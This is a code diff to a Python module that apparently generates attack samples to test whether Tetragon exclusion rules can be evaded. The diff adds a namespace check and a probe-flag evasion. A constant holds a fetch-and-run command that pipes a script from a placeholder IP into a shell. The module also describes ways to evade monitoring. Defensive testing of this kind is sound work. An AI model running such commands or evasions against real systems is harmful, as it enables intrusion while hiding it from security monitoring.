@@ -19,7 +19,7 @@ from tetratui.core.noise.columns import Columns
 from tetratui.core.noise.matching import Matcher
 from tetratui.core.table import build_table
 from tetratui.core.tuning.safety.attack_samples import AttackSample, InContext, example, fit_container, in_context
-from tetratui.core.tuning.safety.risky_binaries import dangerous_alone
+from tetratui.core.tuning.safety.risky_binaries import dangerous_alone, needs_reason
 
 Body = dict[str, Any]
 ATTACK = '-c "curl -s http://198.51.100.66/x.sh | sh"'
@@ -81,6 +81,8 @@ def risk(
 
 def _needs_reason(exclusions: Sequence[Exclusion], scope: str, context: InContext) -> str | None:
     hidden = context.tried - context.visible
+    if scope == "namespace":
+        return next(filter(None, map(needs_reason, exclusions)), None)
     if scope == "binary":
         risks = (dangerous_alone(pattern.display_text) for exclusion in exclusions for pattern in exclusion.binary)
         return next(filter(None, risks), None)
@@ -94,6 +96,8 @@ def _needs_reason(exclusions: Sequence[Exclusion], scope: str, context: InContex
 
 def _evasions(exclusion: Exclusion) -> Iterable[tuple[str, str, bytes]]:
     """Yield name, sentence and line of each evasion; the changes take the process and its parent."""
+    if exclusion.probe:
+        yield "the probe's own command line", "whatever is started as a probe is", _event(exclusion, _flag)
     comment = f'{ATTACK.removesuffix(chr(34))} # {_script(exclusion)}"'
     plain = _event(exclusion, lambda _, __: None)
     for name, sentence, change in (
@@ -136,6 +140,12 @@ def _script(exclusion: Exclusion) -> str:
     """Return a path that the exclusion compares, preferably the script that runs."""
     texts = (*exclusion.parent_arguments, *exclusion.arguments, *exclusion.parent_binary, *exclusion.binary)
     return next((text for text in map(example, texts) if "/" in text), "backup.sh")
+
+
+def _flag(process: Body, _: Body) -> None:
+    """Make the process one that Tetragon takes for a probe, as it does with any process of that command line."""
+    pod = process.setdefault("pod", {"namespace": "default", "name": "pod-0"})
+    process["pod"] = {**pod, "container": {**pod.get("container", {}), "maybe_exec_probe": True}}
 
 
 def _lengthen(body: Body) -> None:
